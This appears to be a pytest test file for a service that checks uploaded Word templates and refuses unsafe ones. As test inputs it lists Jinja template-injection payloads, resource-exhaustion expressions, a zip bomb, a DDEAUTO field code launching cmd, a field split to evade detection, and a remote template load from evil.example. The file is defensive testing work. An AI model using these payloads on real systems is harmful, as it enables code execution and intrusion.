"""A county's own template shows fields and does nothing; whatever else is in it is refused with a sentence."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest

from minqing.core.errors import Invalid
from minqing.documents.kinds import PrintSheet
from minqing.documents.services.checking import check_parts, check_template
from minqing.documents.word import filled
from tests.documents.word_files import changed, template, text_of, with_part

SHEET = PrintSheet(
    code="tried", label="Tried", fields=("number", "title", "text"), lists={"steps": ("at", "text")},
    standard=lambda _language: template("{{ number }}"), page="tried.html", style=Path("tried.css"),
)  # fmt: skip
SAMPLE = SHEET.sample()


@pytest.mark.fault(38)
@pytest.mark.parametrize(
    "tag",
    [
        "{{ ''.__class__ }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ number|attr('__class__') }}",
        "{{ steps.append(1) }}",
        "{{ number.format(number) }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 999999999 }}",
        "{% set x = 1 %}",
        "{% include 'x' %}",
        "{% for a in steps %}{% for b in steps %}{% for c in steps %}x{% endfor %}{% endfor %}{% endfor %}",
        "{{ range(10) }}",
        "{{ number|safe }}",
        "{% autoescape false %}{{ text }}{% endautoescape %}",
    ],
)
def test_a_template_runs_no_code(tag: str) -> None:
    with pytest.raises(Invalid) as refused:
        check_template(template("{{ number }}", tag), SAMPLE)
    assert refused.value.code in {"template_code", "template_field", "template_syntax"}
    assert str(refused.value.sentence)


@pytest.mark.parametrize(
    ("tag", "code"),
    [("{{ nummer }}", "template_field"), ("{{ step.nothing }}", "template_field"), ("{{ number", "template_syntax"),
     ("{% if x %}", "template_syntax"), ("{% for step in steps %}{{ step.nothing }}{% endfor %}", "template_field")],
)  # fmt: skip
def test_a_mistake_in_a_template_is_told_at_the_upload(tag: str, code: str) -> None:
    with pytest.raises(Invalid) as refused:
        check_template(template(tag), SAMPLE)
    assert refused.value.code == code


@pytest.mark.fault(39)
def test_a_bomb_is_refused_by_what_it_declares() -> None:
    bomb = with_part(template("{{ number }}"), "word/media/image1.xml", b"\0" * 60_000_000)
    assert len(bomb) < 200_000
    with pytest.raises(Invalid) as refused:
        check_template(bomb, SAMPLE)
    assert refused.value.code == "template_bomb"


FIELD_CODE = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:r></w:p>'
FIELD_TEXT = b'<w:p><w:fldSimple w:instr="HYPERLINK {{ text }}"/></w:p>'
UNREADABLE = "template_unreadable"
CUT_CODE = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    b'<w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
LOADS = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "template_unreadable"),
        (b"PK\x03\x04 not really", "template_unreadable"),
        (b"x" * 5_000_001, "template_large"),
        (with_part(template("a"), "word/vbaProject.bin", b"x"), "template_macro"),
        (with_part(template("a"), "word/embeddings/oleObject1.bin", b"x"), "template_macro"),
        (changed(template("a"), "[Content_Types].xml", b"document.main", b"macroEnabled"), "template_macro"),
        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_CODE), "template_codes"),
        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + FIELD_TEXT), "template_codes"),
        (changed(template("a"), "word/document.xml", b"<w:body>", b"<w:body>" + CUT_CODE), "template_codes"),
        (changed(template("a"), "word/_rels/document.xml.rels", b"</Relationships>", LOADS), "template_outside"),
        (changed(template("a"), "word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"), UNREADABLE),
        (with_part(template("a"), "word/document.xml", b"<broken"), "template_unreadable"),
    ],
    ids=lambda one: one if isinstance(one, str) else "",
)  # fmt: skip
def test_a_file_that_is_no_harmless_template_is_refused_with_a_sentence(content: bytes, code: str) -> None:
    with pytest.raises(Invalid) as refused:
        check_template(content, SAMPLE)
    assert refused.value.code == code


@pytest.mark.fault(112)
def test_rare_characters_are_told_in_the_file_itself_whose_fonts_nobody_knows() -> None:
    plain = filled(template("{{ title }}"), {**SAMPLE, "title": "张三家漏水"})
    told = filled(template("{{ title }}"), {**SAMPLE, "title": "𠮷家漏水"})
    assert "U+" not in text_of(plain)
    assert "𠮷 U+20BB7" in text_of(told)


def test_filled_values_never_become_tags() -> None:
    fields = {**SAMPLE, "title": "{{ number }}", "text": "{% if %}"}
    assert "{{ number }}" in text_of(filled(template("{{ title }} {{ text }}"), fields))


@pytest.mark.fault(68)
@pytest.mark.parametrize(
    ("name", "around", "piece"),
    [
        ("word/document.xml", (b"<w:body>", b"<w:body><w:p><w:r>", b"</w:r></w:p>"), b"<w:instrText></w:instrText>"),
        ("word/_rels/document.xml.rels", (b"</Relationships>", b"", b"</Relationships>"), b"<Relationship/>"),
    ],
)
def test_a_part_made_to_be_slow_takes_the_time_of_a_plain_one(
    name: str, around: tuple[bytes, bytes, bytes], piece: bytes
) -> None:
    old, before, after = around
    # four times as long, about four times the time, not sixteen
    small, large = (changed(template("a"), name, old, before + piece * count + after) for count in (20_000, 80_000))
    least = [min(timed(one) for _n in range(3)) for one in (small, large)]
    assert least[1] < least[0] * 10


def timed(content: bytes) -> float:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        began = time.process_time()
        check_parts(archive)
        return time.process_time() - began
